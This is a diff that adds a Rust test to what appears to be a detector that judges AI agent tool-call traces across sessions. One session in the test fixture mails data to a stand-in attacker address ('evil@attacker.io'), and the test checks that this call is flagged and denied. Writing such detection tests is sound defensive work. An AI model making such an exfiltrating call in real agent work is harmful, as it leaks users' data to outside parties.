@@ -142,6 +142,25 @@ fn an_attack_in_several_recordings_of_one_session_is_that_of_one_session() {
 }
 
 #[test]
+fn what_is_new_on_one_server_in_every_session_hides_nothing_that_is_new_on_another() {
+    let place = Place::new();
+    let query =
+        |table: &str| format!(r#"{{"server":"db","tool":"query","arguments":{{"sql":"SELECT a FROM {table}"}}}}"#);
+    for session in 0..21 {
+        let mut calls = vec![mail("ann@acme.org", &format!("note {session}")), query("orders")];
+        // In every third session another table, which is no surprise.
+        calls.extend((session % 3 == 0).then(|| query(&format!("t_{session}"))));
+        calls.extend((session == 20).then(|| to("evil@attacker.io")));
+        place.write(&format!("traces/s{session:02}.jsonl"), &calls.join("\n"));
+    }
+    let said = infer(&place, &[]);
+    assert!(said.contains("s20.jsonl is unlike the others: it alone needs /to"), "{said}");
+    let verdicts = ["evil@attacker.io", "ann@acme.org"].map(|one| decide(&place, &to(one)));
+    assert_eq!(verdicts, ["deny", "allow"]);
+    assert_eq!(decide(&place, &query("t_3")), "allow", "many sessions read a table of their own");
+}
+
+#[test]
 fn equal_files_a_tool_without_a_name_and_a_key_that_stands_twice_are_said() {
     let place = Place::new();
     for file in ["a", "b", "c"] {
